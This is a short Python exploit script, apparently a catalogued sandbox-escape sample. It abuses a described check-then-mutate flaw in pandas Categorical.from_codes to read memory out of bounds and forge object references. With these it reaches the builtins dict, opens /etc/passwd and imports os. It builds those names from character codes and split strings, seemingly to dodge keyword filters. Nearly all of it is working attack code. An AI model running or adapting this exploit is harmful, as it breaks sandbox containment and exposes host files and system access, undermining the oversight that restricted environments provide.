# source: pandas Categorical.from_codes validates codes once, then keeps the caller's int32 array without copying (coerce_indexer_dtype astype(copy=False)); take_1d_* boundscheck(False)
# family: memory safety - validate-then-alias (TOCTOU): the script keeps its own codes array and changes it after from_codes checked it -> OOB read + addr->object fetch
# goal: builtins dict via func_builtins, open() -> /etc/passwd, __import__ -> os
import numpy as np
import pandas as pd

N = 4400000
raw = np.arange(N, dtype=np.int64).tobytes()
ki = np.zeros(1, dtype=np.int32)
ci = pd.Categorical.from_codes(ki, categories=pd.Index(np.frombuffer(raw, dtype=np.int64)))
base = id(raw) + 32


def rd(addr):
    ki[0] = (addr - base) // 8
    return int(np.asarray(ci)[0])


ko = np.zeros(1, dtype=np.int32)
co = pd.Categorical.from_codes(ko, categories=pd.Index(np.arange(N).astype(object), dtype=object))
obase = rd(id(co.categories.values) + 16)


def fetch(addr):
    ko[0] = (addr - obase) // 8
    return np.asarray(co)[0]


def f():
    return 0


b = fetch(id(f) + 24)
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
